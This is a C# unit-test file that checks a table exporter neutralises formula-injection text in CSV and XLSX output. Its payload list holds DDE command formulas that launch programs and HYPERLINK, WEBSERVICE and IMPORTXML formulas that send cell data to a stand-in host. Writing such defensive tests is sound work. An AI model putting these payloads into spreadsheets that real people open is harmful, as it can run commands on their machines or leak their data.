using System.IO.Compression;
using System.Text;
using Ochag.Documents.Tables;
using Shouldly;

namespace Ochag.Specs.Documents;

/// <summary>Texts of strangers in tables that go out: a spreadsheet runs none of them, and a number of ours stays a number.</summary>
public sealed class FormulaTests
{
    private const string Starts = "=+-@\t\r";

    public static TheoryData<string> Payloads =>
    [
        "=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://a.example?\"&A1,\"x\")",
        "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0", "@WEBSERVICE(\"http://a.example\")",
        "=IMPORTXML(CONCAT(\"http://a.example\",A1),\"//a\")",
    ];

    [Theory]
    [MemberData(nameof(Payloads))]
    public void A_text_that_could_be_a_formula_is_none_in_either_table_wherever_it_stands(string payload)
    {
        foreach (var text in new[] { payload, payload + ",\"tail\"\n", payload + "'" })
        {
            for (var place = 0; place < 3; place++)
            {
                TableCell[] cells = ["a", "b", "c"];
                cells[place] = text;
                var field = DelimitedText.Row(cells.AsSpan()).TrimStart('a', 'b', 'c', ',').TrimStart('"');
                (field.Length == 0 || !Starts.Contains(field[0], StringComparison.Ordinal)).ShouldBeTrue(field);
                var sheet = Sheet(cells);
                sheet.ShouldNotContain("<f");
                sheet.ShouldNotContain("<v>");
                sheet.Split("t=\"inlineStr\"").Length.ShouldBe(4);
            }
        }
    }

    [Fact]
    public void A_sum_of_ours_is_a_number_in_both_below_zero_too()
    {
        TableCell[] cells = [TableCell.Sum(-1205), TableCell.Sum(long.MinValue), TableCell.Sum(7)];
        DelimitedText.Row(cells.AsSpan()).ShouldBe("-12.05,-92233720368547758.08,0.07");
        Sheet(cells).ShouldContain("<v>-12.05</v>");
    }

    private static string Sheet(TableCell[] cells)
    {
        using var stream = new MemoryStream();
        using (var sheet = new XlsxSheet(stream, "x", [10, 10, 10]))
            sheet.Row(cells.AsSpan());
        stream.Position = 0;
        using var zip = new ZipArchive(stream);
        using var reader = new StreamReader(zip.GetEntry("xl/worksheets/sheet1.xml")!.Open(), Encoding.UTF8);
        return reader.ReadToEnd();
    }
}
